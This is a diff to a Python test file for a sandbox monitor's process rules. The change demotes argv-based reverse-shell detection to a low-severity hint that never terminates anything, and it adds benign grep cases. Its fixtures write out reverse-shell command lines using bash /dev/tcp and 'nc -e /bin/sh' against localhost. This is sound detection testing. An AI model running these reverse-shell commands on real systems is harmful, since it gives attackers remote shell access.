@@ -1,4 +1,5 @@
-"""Process rules over snapshots and audited execs; attack shapes first."""
+"""Process rules over snapshots and audited execs (the fallback without kernel events);
+attack shapes first. The argv regex is a hint now: it never acts alone."""
 
 from __future__ import annotations
 
@@ -38,6 +39,11 @@ BENIGN = [
     "python3 server.py --port 8080",
     "ls -la /dev/null",
     "sh script.sh",
+    # Shell words in ordinary work: the old regex matched `-e sh` and terminated a sandbox.
+    "grep -e sh /work/notes.txt",
+    "grep -E 'bash|zsh' notes.txt",
+    "bash -i",
+    "sed -e sh notes.txt",
 ]
 
 
@@ -64,15 +70,33 @@ def test_command_programs_follow_pipes_and_wrappers() -> None:
     assert command_programs("echo 'unbalanced") == ("echo",)
 
 
-def test_reverse_shell_process_is_critical_and_immediate(feed: Callable[..., Feed]) -> None:
-    f = feed(auto_terminate_on_violation=True)
+def test_reverse_shell_argv_is_a_low_hint_that_never_acts(feed: Callable[..., Feed]) -> None:
+    """Was: CRITICAL and immediate from argv alone. argv is the attacker's text; the
+    reverse shell rule now needs kernel evidence (test_kernel_revshell)."""
+    f = feed(auto_terminate_on_violation=True, violation_threshold=1)
     p = proc(7, "bash", "bash", "-i", ">&", "/dev/tcp/127.0.0.1/4444", "0>&1", exe="/bin/bash")
     vs, cs = f(snapshot(1, p))
     assert [(v.rule_id, v.severity.value, v.disposition.value) for v in vs] == [
-        ("process.reverse_shell", "critical", "terminated")
+        ("process.reverse_shell_hint", "low", "detected")
     ]
     assert vs[0].evidence.process == p
-    assert [(c.action.value, c.violation_ids) for c in cs] == [("terminate", (vs[0].violation_id,))]
+    assert cs == []  # threshold 1 and immediate by default: a hint still never acts
+
+
+def test_a_hint_listed_as_immediate_still_never_acts(feed: Callable[..., Feed]) -> None:
+    f = feed(auto_terminate_on_violation=True, immediate_rules={"process.reverse_shell_hint"})
+    vs, cs = f(snapshot(1, proc(7, "nc", "nc", "-e", "/bin/sh", "127.0.0.1", "1", exe="/bin/nc")))
+    assert "process.reverse_shell_hint" in [v.rule_id for v in vs]
+    assert cs == []
+
+
+def test_grep_for_shell_words_produces_nothing(feed: Callable[..., Feed]) -> None:
+    f = feed(auto_terminate_on_violation=True)
+    vs, cs = f(
+        snapshot(1, proc(8, "grep", "grep", "-e", "sh", "/work/notes.txt", exe="/usr/bin/grep")),
+        audit(2, "exec", "exec", "grep -e sh /work/notes.txt", allowed=True),
+    )
+    assert (vs, cs) == ([], [])
 
 
 @pytest.mark.parametrize(
@@ -166,7 +190,8 @@ def test_audited_exec_that_ran_is_judged(feed: Callable[..., Feed]) -> None:
 def test_docker_exec_seen_by_the_collector_is_judged(feed: Callable[..., Feed]) -> None:
     f = feed()
     f(audit(1, "lifecycle", "exec_start", "bash -i >& /dev/tcp/127.0.0.1/1 0>&1", actor="collector"))
-    assert [v.rule_id for v in f.violations] == ["process.reverse_shell"]
+    f(audit(2, "lifecycle", "exec_start", "nmap 127.0.0.1", actor="collector"))
+    assert [v.rule_id for v in f.violations] == ["process.reverse_shell_hint", "process.suspicious"]
 
 
 def test_allowlisted_exec_checks_every_program(feed: Callable[..., Feed]) -> None:
